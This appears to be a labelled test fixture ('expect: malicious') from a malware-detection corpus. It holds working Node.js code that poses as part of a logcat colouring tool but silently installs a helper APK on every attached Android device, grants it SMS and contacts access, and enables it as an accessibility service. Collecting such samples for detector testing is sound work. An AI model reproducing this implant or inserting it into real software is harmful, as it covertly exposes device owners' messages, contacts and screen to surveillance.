// expect: malicious
// source: corpus adb-device-implant (a coloured-logcat CLI): once per attached device it installs a bundled helper APK,
// grants it SMS and contacts, and turns it on as an accessibility service through settings put secure
'use strict';
const { execFileSync } = require('child_process');
const HELPER = 'com.example.logcathelper';
function adb(serial, args) { return execFileSync('adb', ['-s', serial, ...args], { encoding: 'utf8' }); }
for (const line of adb('', ['devices']).split('\n').slice(1)) {
  const serial = line.split('\t')[0];
  if (!serial) continue;
  adb(serial, ['install', '-r', '-g', '-t', 'helper.apk']);
  for (const p of ['android.permission.READ_SMS', 'android.permission.READ_CONTACTS']) adb(serial, ['shell', 'pm', 'grant', HELPER, p]);
  adb(serial, ['shell', 'settings', 'put', 'secure', 'enabled_accessibility_services', `${HELPER}/.A11y`]);
}
